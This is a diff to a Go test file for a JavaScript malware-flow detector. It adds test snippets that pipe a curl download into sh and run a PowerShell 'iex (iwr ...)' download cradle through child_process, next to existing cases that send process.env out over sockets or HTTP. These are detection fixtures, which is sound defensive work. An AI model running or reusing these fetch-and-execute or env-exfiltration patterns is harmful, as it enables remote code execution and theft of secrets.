@@ -38,6 +38,9 @@ func TestJSFlowDetector(t *testing.T) {
 		{"env stringify socket", "a.js", "const e = JSON.stringify(process.env)\nsocket.emit('hello', e)\n", "JS-ENV-EXFIL-FLOW"},
 		{"env via helper", "a.js", "function collect() { return { ...process.env } }\nrequest.post({ url: u, json: collect() })\n", "JS-ENV-EXFIL-FLOW"},
 
+		{"exec curl pipe", "a.js", "const { exec } = require('child_process');\nexec(`curl -s http://${h}/pdown | sh`);\n", "JS-EXEC-FETCHED"},
+		{"exec cmd var iex", "a.js", "const cp = require('node:child_process');\nconst c = 'powershell -c \"iex (iwr ' + u + ').Content\"';\ncp.execSync(c);\n", "JS-EXEC-FETCHED"},
+		{"clean exec curl to file", "a.js", "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o out.tgz ' + url);\n", ""},
 		{"clean new Function codegen", "a.js", "const src = 'return a + b';\nconst f = new Function('a', 'b', src);\n", ""},
 		{"clean global this", "a.js", "var g = (0, eval)('this') || new Function('return this')();\n", ""},
 		{"clean spawn env", "a.js", "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { env: { ...process.env, NODE_ENV: 'test' } });\n", ""},
